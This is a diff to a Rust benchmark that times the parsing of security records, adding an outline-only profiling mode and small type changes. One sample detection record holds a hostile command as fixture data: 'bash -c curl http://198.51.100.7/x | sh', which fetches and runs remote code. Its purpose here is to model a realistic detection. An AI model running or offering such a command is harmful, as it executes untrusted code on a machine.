@@ -1,7 +1,8 @@
 //! How fast records are read on this machine, one core, beside SHA-256 of the same bytes.
 //!
 //! ```text
-//! bench_read [SECONDS]   how long each figure is measured; 0.5 where nothing is said
+//! bench_read [SECONDS]           how long each figure is measured; 0.5 where nothing is said
+//! bench_read SECONDS outline     only [`Outline::read`], for a profiler
 //! ```
 //!
 //! Records are what producers write, not padding: an admission decision with findings, a detection with its process tree, what a
@@ -28,11 +29,17 @@ use cairn_schemas::token::{TokenKey, token};
 fn main() -> Result<(), Box<dyn Error>> {
     let seconds: f64 = std::env::args().nth(1).map_or(Ok(0.5), |text| text.parse())?;
     let each = Duration::from_secs_f64(seconds);
+    let only_outline = std::env::args().nth(2).is_some_and(|what| what == "outline");
     println!("{:<40} {:>6} {:>8} {:>8} {:>8}", "type", "bytes", "leaf", "outline", "record");
     for draft in drafts()? {
         let bytes = record(draft)?.to_bytes()?;
         let kind = Outline::read(&bytes)?.kind;
-        let leaf = time(each, || drop(black_box(Digest::leaf(black_box(&bytes)))));
+        if only_outline {
+            let outline = time(each, || drop(black_box(Outline::read(black_box(&bytes)))));
+            println!("{kind:<40} {:>6} {outline:>8.0}", bytes.len());
+            continue;
+        }
+        let leaf = time(each, || _ = black_box(Digest::leaf(black_box(&bytes))));
         let outline = time(each, || drop(black_box(Outline::read(black_box(&bytes)))));
         let parse = time(each, || drop(black_box(Record::parse(black_box(&bytes)))));
         println!("{kind:<40} {:>6} {leaf:>8.0} {outline:>8.0} {parse:>8.0}", bytes.len());
@@ -77,7 +84,7 @@ fn drafts() -> Result<Vec<Draft>, Box<dyn Error>> {
         resource: "apps/v1/deployments".into(),
         namespace: Some("shop".into()),
         name: Some("checkout".into()),
-        user: token(&key, "user", "alice"),
+        user: token(&key, "user", "alice").into(),
         allowed: false,
         dry_run: false,
         object: Digest::sha256(b"object"),
@@ -117,7 +124,7 @@ fn drafts() -> Result<Vec<Draft>, Box<dyn Error>> {
             executable: "/usr/bin/bash".into(),
             arguments: vec!["bash".into(), "-c".into(), "curl http://198.51.100.7/x | sh".into()],
             directory: Some("/srv/app".into()),
-            user: User { uid: token(&key, "uid", "1000"), name: None, login_uid: None },
+            user: User { uid: token(&key, "uid", "1000").into(), name: None, login_uid: None },
             terminal: false,
         },
         ancestors: vec![Ancestor {
